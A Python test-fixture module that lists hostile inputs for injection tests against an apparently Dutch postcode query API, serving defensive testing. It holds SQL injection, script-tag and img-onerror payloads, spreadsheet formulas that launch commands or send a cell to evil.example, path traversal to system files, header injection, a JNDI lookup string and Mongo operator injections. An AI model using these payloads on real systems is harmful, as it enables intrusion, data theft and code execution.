# SPDX-License-Identifier: EUPL-1.2
"""Hostile inputs: the strings and values the injection tests put in every place a caller controls."""

from __future__ import annotations

import json
from typing import Any

#: (name, string): SQL, markup and script, spreadsheet formulas, paths, control and odd Unicode
INJECTIONS: list[tuple[str, str]] = [
    ("sql-or", "' OR 1=1--"),
    ("sql-drop", '"; DROP TABLE records; --'),
    ("sql-union", "1 UNION SELECT oin, name FROM parties"),
    ("html-script", "<script>alert(1)</script>"),
    ("html-img", '"><img src=x onerror=alert(1)>'),
    ("js-url", "javascript:alert(document.domain)"),
    ("csv-hyperlink", '=HYPERLINK("https://evil.example/?"&A1,"klik")'),
    ("csv-cmd", "+cmd|' /C calc'!A0"),
    ("csv-sum", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-minus", "-2+3+cmd|' /C calc'!A0"),
    ("path-traversal", "../../etc/passwd"),
    ("path-encoded", "%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("path-windows", "..\\..\\windows\\win.ini"),
    ("null-byte", "abc\x00def"),
    ("null-only", "\x00"),
    ("lone-surrogate", "\ud800"),
    ("rtl-override", "\u202eexe.gpj"),
    ("zero-width", "3511\u200bAB"),
    ("bom", "\ufeff3511AB"),
    ("fullwidth-postcode", "３５１１ＡＢ"),
    ("fullwidth-word", "ｓｅｌｅｃｔ"),
    ("ligature", "\ufb01le"),
    ("combining", "e\u0301" * 50),
    ("emoji", "\U0001f642" * 10),
    ("long-10k", "A" * 10_000),
    ("crlf", "x\r\nX-Injected: 1"),
    ("format-string", "%s%s%n{0}{{}}${jndi:ldap://evil.example/a}"),
    ("mongo-as-text", '{"$gt": ""}'),
]

#: values of the wrong shape where a scalar belongs: Mongo operators, arrays, huge and odd numbers
OPERATORS: list[tuple[str, Any]] = [
    ("op-ne", {"$ne": None}),
    ("op-gt", {"$gt": ""}),
    ("op-regex", {"$regex": ".*"}),
    ("op-where", {"$where": "sleep(1000)"}),
    ("op-nested-eq", {"$eq": {"$eq": "x"}}),
    ("array", ["3511AB", "1000AA"]),
    ("huge-int", 10**30),
    ("negative", -1),
    ("boolean", True),
    ("float", 1.5),
]

#: raw request bodies that are not valid UTF-8 / JSON text (sent as bytes, never re-encoded)
RAW_BODIES: list[tuple[str, bytes]] = [
    (
        "overlong-slash",
        b'{"vraagObject": {"selectiegebied": {"postcode": "\xc0\xaf", "afstand": 5}}}',
    ),
    (
        "overlong-nul",
        b'{"vraagObject": {"selectiegebied": {"postcode": "\xc0\x80", "afstand": 5}}}',
    ),
    (
        "cesu-surrogate",
        b'{"vraagObject": {"selectiegebied": {"postcode": "\xed\xa0\x80", "afstand": 5}}}',
    ),
    (
        "invalid-byte",
        b'{"vraagObject": {"selectiegebied": {"postcode": "\xff\xfe", "afstand": 5}}}',
    ),
    (
        "escaped-surrogate",
        b'{"vraagObject": {"selectiegebied": {"postcode": "\\ud800", "afstand": 5}}}',
    ),
    ("escaped-nul", b'{"vraagObject": {"selectiegebied": {"postcode": "\\u0000", "afstand": 5}}}'),
    ("utf16-bom", "\ufeff{}".encode("utf-16")),
    ("nan", b'{"vraagObject": {"selectiegebied": {"postcode": "3511AB", "afstand": NaN}}}'),
    ("trailing-garbage", b'{"vraagObject": {}} {"x": 1}'),
    ("duplicate-keys", b'{"vraagObject": 1, "vraagObject": {"selectiegebied": 5}}'),
]


def encode(body: Any) -> bytes:
    """JSON as UTF-8; a lone surrogate cannot be UTF-8, so then as a JSON ``\\uD800`` escape."""
    try:
        return json.dumps(body, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return json.dumps(body, ensure_ascii=True).encode("ascii")


def set_at(document: Any, path: tuple[str | int, ...], value: Any) -> Any:
    """A deep copy of ``document`` with ``value`` at ``path``."""
    copy = json.loads(json.dumps(document))
    target = copy
    for part in path[:-1]:
        target = target[part]
    target[path[-1]] = value
    return copy


def pointer(path: tuple[str | int, ...]) -> str:
    return "".join(f"/{str(p).replace('~', '~0').replace('/', '~1')}" for p in path)
